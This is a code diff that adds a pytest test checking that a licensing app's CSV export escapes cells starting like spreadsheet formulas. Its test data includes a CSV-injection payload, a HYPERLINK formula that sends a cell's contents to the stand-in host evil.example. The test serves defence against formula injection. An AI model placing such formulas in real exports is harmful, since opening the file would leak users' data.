@@ -7,6 +7,7 @@ import pytest
 import time_machine
 from django.urls import reverse
 
+from catalog.models import Track
 from catalog.templatetags.catalog_tags import seconds
 from licensing import services
 from licensing.models import EndUser, License
@@ -434,6 +435,18 @@ def test_csv_export_lists_the_owners_licences(lic, other_member, owner_client, t
     assert rows[0]["project"] == "Launch video" and rows[0]["end_user"] == "Olivia Owner"
     assert rows[0]["verify_url"].endswith(f"/licenses/verify/{lic.code}/")
     assert rows[0]["duration"] == seconds(lic.version.duration_seconds) and "isrc" in rows[0]
+
+
+def test_csv_export_cells_never_start_like_a_spreadsheet_formula(member, owner_client, track):
+    """A title from an audio file's tags or a member's project name that starts like a formula is
+    written as text (a leading apostrophe), so opening the file runs nothing."""
+    Track.objects.filter(pk=track.pk).update(title='=HYPERLINK("https://evil.example/?"&A2,"Open")')
+    grant(member, track, name="@SUM(1+1)", title="-2+3")
+    response = owner_client.get(reverse("licensing:export-csv"))
+    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+    assert row["track"] == '\'=HYPERLINK("https://evil.example/?"&A2,"Open")'
+    assert row["end_user"] == "'@SUM(1+1)" and row["project"] == "'-2+3"
+    assert row["issued_at"][0].isdigit() and row["code"].startswith("AMT-")
 
 
 def test_a_projects_cue_sheet_lists_that_projects_licences_only(
